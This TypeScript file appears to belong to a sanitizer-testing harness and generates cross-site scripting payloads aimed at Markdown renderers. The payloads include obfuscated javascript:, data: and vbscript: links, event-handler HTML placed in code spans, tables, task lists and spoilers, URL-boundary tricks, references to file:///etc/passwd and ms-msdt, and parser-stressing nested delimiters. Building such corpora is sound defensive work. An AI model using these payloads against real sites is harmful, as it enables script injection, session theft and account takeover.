import { CANARY, type Payload, payloadsOf } from "./payload.ts";

/** Returns payloads that target Markdown: links in all forms, and HTML in and around its delimiters. */
export function markdownPayloads(): Payload[] {
  return [
    ...addresses().flatMap((address, at) => framed(address, at)),
    ...htmlInMarks(),
    ...htmlInBlocks(),
    ...addressTricks(),
    ...ambiguousMarks(),
  ];
}

/** Addresses that run a script or pretend to be another, in every form that a browser accepts. */
function addresses(): string[] {
  const script = `javascript:${CANARY}`;
  return [
    script,
    `JavaScript:${CANARY}`,
    `JAVASCRIPT:${CANARY}`,
    ` javascript:${CANARY}`,
    `\tjavascript:${CANARY}`,
    `\u0001javascript:${CANARY}`,
    `\u0019javascript:${CANARY}`,
    `\u00a0javascript:${CANARY}`,
    `\u200bjavascript:${CANARY}`,
    `\ufeffjavascript:${CANARY}`,
    `\u202ejavascript:${CANARY}`,
    `java\tscript:${CANARY}`,
    `java\nscript:${CANARY}`,
    `java\r\nscript:${CANARY}`,
    `java\u0000script:${CANARY}`,
    `java\u00adscript:${CANARY}`,
    `javascript\t:${CANARY}`,
    `javascript\u2236${CANARY}`,
    `javascript&colon;${CANARY}`,
    `javascript&#58;${CANARY}`,
    `javascript&#x3a;${CANARY}`,
    `&#106;avascript:${CANARY}`,
    `&#x6a;avascript:${CANARY}`,
    `&Tab;javascript:${CANARY}`,
    `java&NewLine;script:${CANARY}`,
    `javascript%3a${CANARY}`,
    `%6aavascript:${CANARY}`,
    `\\u006aavascript:${CANARY}`,
    `\\javascript:${CANARY}`,
    `javascript\\:${CANARY}`,
    `javascript://%0a${CANARY}`,
    `javascript://evil.example/%0d%0a${CANARY}`,
    `javascript:/*https://*/${CANARY}`,
    `javascript:"/*'/*\`/*--></script>${CANARY}//`,
    `javascript:void(${CANARY})`,
    `javascript:https://good.example/;${CANARY}`,
    "jaVasCript:\\u005f_xss(1)",
    `view-source:${script}`,
    `feed:${script}`,
    `jar:${script}!/`,
    `https:${script}`,
    `http://${script}`,
    `https://${script}`,
    `//${script}`,
    "vbscript:__xss 1",
    "VbScript:msgbox(1)",
    `livescript:${CANARY}`,
    `mocha:${CANARY}`,
    `data:text/html,<script>${CANARY}</script>`,
    `data:text/html;base64,PHNjcmlwdD5fX3hzcygxKTwvc2NyaXB0Pg==`,
    `DATA:text/html,<img/src=x/onerror=${CANARY}>`,
    `data:image/svg+xml,<svg/onload=${CANARY}>`,
    `data:text/javascript,${CANARY}`,
    `data:,${CANARY}`,
    "blob:https://good.example/1",
    "filesystem:https://good.example/temporary/x.html",
    "file:///etc/passwd",
    "about:blank",
    "chrome://settings",
    "intent://x#Intent;scheme=https;end",
    "ms-msdt:/id PCWDiagnostic",
    "tel:*2767*3855%23",
    "\\\\evil.example\\x",
    "//evil.example",
    "/\\evil.example",
    "https:evil.example",
    "https:/\\evil.example",
    `https://good.example@evil.example/`,
    `https://good.example/"onmouseover="${CANARY}`,
    `https://good.example/'onmouseover='${CANARY}`,
    `https://good.example/><img/src=x/onerror=${CANARY}>`,
    `https://good.example/?q=<script>${CANARY}</script>`,
    `https://good.example/#javascript:${CANARY}`,
    "https://good.example/\u202egpj.exe",
    "https://аpple.example/",
    "https://[::1]:99999/",
    "https://%00/",
    "http://0x7f000001/",
    `mailto:x@y.example?subject=<script>${CANARY}</script>`,
    `mailto:"><script>${CANARY}</script>@y.example`,
    `/rooms/1?x=<script>${CANARY}</script>`,
    `/rooms/../../javascript:${CANARY}`,
  ];
}

/** Every form of a link. Each address is tried in the first form and in a few others in turn. */
const FRAMES: readonly (readonly [string, (address: string) => string])[] = [
  ["a link", (address) => `[press](${address})`],
  ["a link in angle brackets", (address) => `[press](<${address}>)`],
  ["a link with a title", (address) => `[press](${address} "title\\" onmouseover=${CANARY}")`],
  ["an autolink", (address) => `<${address}>`],
  ["an image", (address) => `![alt" onerror="${CANARY}](${address})`],
  ["a reference", (address) => `[press][1]\n\n[1]: ${address} "title"`],
  ["a reference by its name", (address) => `[press]\n\n[press]: <${address}>`],
  ["an address as its own text", (address) => `[${address}](${address})`],
  ["a link around an image", (address) => `[![x](${address})](${address})`],
  ["a link within a link", (address) => `[a [b](${address}) c](${address})`],
  ["a bare address", (address) => `look: ${address} !`],
  ["a link in a quote in a list", (address) => `> - **[press](${address})**`],
  ["a link in marks", (address) => `**~~_[press](${address})_~~**`],
  ["a link over lines", (address) => `[press\nhere](\n${address}\n)`],
  ["HTML of a link", (address) => `<a href="${address}">press</a>`],
  ["a footnote", (address) => `x[^1]\n\n[^1]: ${address}`],
  ["a table", (address) => `|a|b|\n|-|-|\n|[x](${address})|<img src=${address}>|`],
  ["a wiki link", (address) => `[[${address}|press]]`],
];

const FRAMES_PER_ADDRESS = 4;

function framed(address: string, at: number): Payload[] {
  const [plain, ...others] = FRAMES;
  if (plain === undefined) return [];
  const inTurn = Array.from(
    { length: FRAMES_PER_ADDRESS },
    (_, turn) => others[(at * FRAMES_PER_ADDRESS + turn) % others.length],
  );
  return [plain, ...inTurn.filter((frame) => frame !== undefined)].map(([name, frame]) => ({
    text: frame(address),
    from: `made: Markdown, ${name}`,
  }));
}

function htmlInMarks(): Payload[] {
  const tag = `<img src=x onerror=${CANARY}>`;
  const script = `<script>${CANARY}</script>`;
  const frames = [
    (html: string) => `\`${html}\``,
    (html: string) => `\`\`${html}\`\``,
    (html: string) => `\`${html}`,
    (html: string) => `\`\`\`\n${html}\n\`\`\``,
    (html: string) => `\`\`\`html"><b onclick=${CANARY}\n${html}\n\`\`\``,
    (html: string) => `\`\`\`${html}\nx\n\`\`\``,
    (html: string) => `~~~\n${html}\n~~~`,
    (html: string) => `    ${html}`,
    (html: string) => `> ${html}`,
    (html: string) => `- ${html}`,
    (html: string) => `1. ${html}`,
    (html: string) => `9999999999. ${html}`,
    (html: string) => `# ${html}`,
    (html: string) => `${html}\n===`,
    (html: string) => `**${html}**`,
    (html: string) => `*a${html}b*`,
    (html: string) => `~~${html}~~`,
    (html: string) => `||${html}||`,
    (html: string) => `[${html}](https://good.example/)`,
    (html: string) => `[x](https://good.example/ "${html}")`,
    (html: string) => `![${html}](https://good.example/x.png)`,
    (html: string) => `@${html}`,
    (html: string) => `@alice${html}`,
    (html: string) => `#1${html}`,
    (html: string) => `#${html}`,
    (html: string) => `:${html}:`,
    (html: string) => `/me ${html}`,
    (html: string) => `\\${html}`,
    (html: string) => `<!-- ${html} -->`,
    (html: string) => `$$${html}$$`,
    (html: string) => `\`\`\`mermaid\ngraph TD; A["${html}"]\n\`\`\``,
    (html: string) => `https://good.example/${html}`,
    (html: string) => `<https://good.example/${html}>`,
    (html: string) => `**\n${html}\n**`,
    (html: string) => `\n\n${html}\n\n`,
  ];
  return payloadsOf(
    "Markdown around HTML",
    frames.flatMap((frame) => [frame(tag), frame(script)]),
  );
}

/** Addresses whose end is easy to misjudge. */
function addressTricks(): Payload[] {
  const texts = [
    `https://good.example/"onmouseover=${CANARY}"`,
    `https://good.example/\u0022\u0020onmouseover=${CANARY}`,
    `https://good.example/<b/onclick=${CANARY}>`,
    `https://good.example/&quot;onmouseover=${CANARY}`,
    `https://good.example/\`onmouseover=${CANARY}\``,
    `https://good.example/)](javascript:${CANARY})`,
    `[x](https://good.example/)](javascript:${CANARY})`,
    `[x](https://good.example/\\)javascript:${CANARY})`,
    `[x](https://good.example/#"onclick="${CANARY}")`,
    `[x](https://good.example/%22onclick=%22${CANARY})`,
    `[](javascript:${CANARY})`,
    `[ ](javascript:${CANARY})`,
    `[x]()javascript:${CANARY}`,
    `[x] (javascript:${CANARY})`,
    `[x](javascript:${CANARY}`,
    `[x\\](javascript:${CANARY})`,
    `\\[x](javascript:${CANARY})`,
    `[x]\\(javascript:${CANARY})`,
    `[x](j\\avascript:${CANARY})`,
    `[x](javascript\\&colon;${CANARY})`,
    `[x](https://good.example "a"onclick="${CANARY}")`,
    `[x](https://good.example 'a' onclick='${CANARY}')`,
    `[x](https://good.example){onclick=${CANARY}}`,
    `[x](https://good.example){: onclick="${CANARY}"}`,
    `www.good.example"onclick=${CANARY}`,
    `x@y.example"onclick=${CANARY}`,
    `xmpp:x@y.example?javascript:${CANARY}`,
    `<javascript:${CANARY}@y.example>`,
    `http://${"a".repeat(300)}"onclick=${CANARY}`,
    `https://good.example/${"(".repeat(60)}<img/src=x/onerror=${CANARY}>`,
  ];
  return payloadsOf("Markdown, where an address ends", texts);
}

/** HTML where a heading, table, task list or spoiler has its text. */
function htmlInBlocks(): Payload[] {
  const tag = `<img src=x onerror=${CANARY}>`;
  const texts = [
    `# ${tag}`,
    `###### a ${tag} ######`,
    `a\n---\n${tag}\n---\nb`,
    `| ${tag} | b |\n|:-:|--:|\n| "><svg onload=${CANARY}> | [x](javascript:${CANARY}) |`,
    `${tag} | b\n--- | ---\n${tag} | c | ${tag} | ${tag}`,
    `|a|b|\n|:"onmouseover=${CANARY}:|-|\n|c|d|`,
    `- [ ] ${tag}\n- [x] "><input autofocus onfocus=${CANARY}>`,
    `- ["onclick="${CANARY}] a`,
    `> - [x] ${tag}\n>   - [ ] [x](javascript:${CANARY})`,
    `hidden: ||${tag}|| shown`,
    `hidden: ||[x](javascript:${CANARY})|| ||" onfocus=${CANARY} autofocus x="||`,
    `| ||${tag}|| | ${tag} |\n|-|-|`,
  ];
  return payloadsOf("Markdown, HTML in headings, tables, tasks and spoilers", texts);
}

/** Delimiters that overlap, never close, or nest very deeply. */
function ambiguousMarks(): Payload[] {
  const tag = `<img src=x onerror=${CANARY}>`;
  const texts = [
    `**a _b** c_ ${tag}`,
    `\`a **b\` c** ${tag}`,
    `[a **b](https://good.example/) c** ${tag}`,
    `[a \`b](javascript:${CANARY}) c\``,
    `\`[a](javascript:${CANARY})\``,
    `> \`\`\`\n> ${tag}\n\`\`\`\n${tag}`,
    `- \`\`\`\n${tag}\n- \`\`\``,
    `${"*".repeat(500)}${tag}${"*".repeat(500)}`,
    `${"[".repeat(300)}x${`](javascript:${CANARY})`.repeat(50)}`,
    `${"> ".repeat(200)}${tag}`,
    `${"- ".repeat(200)}${tag}`,
    `${"`".repeat(99)}${tag}${"`".repeat(98)}`,
    `${"~~".repeat(200)}${tag}`,
    `${"_a".repeat(300)}${tag}`,
    `${"[x](".repeat(100)}javascript:${CANARY}${")".repeat(100)}`,
    `${"\\".repeat(101)}${tag}`,
    `${"&".repeat(500)}lt;${tag}`,
  ];
  return payloadsOf("Markdown, marks that overlap or never end", texts);
}
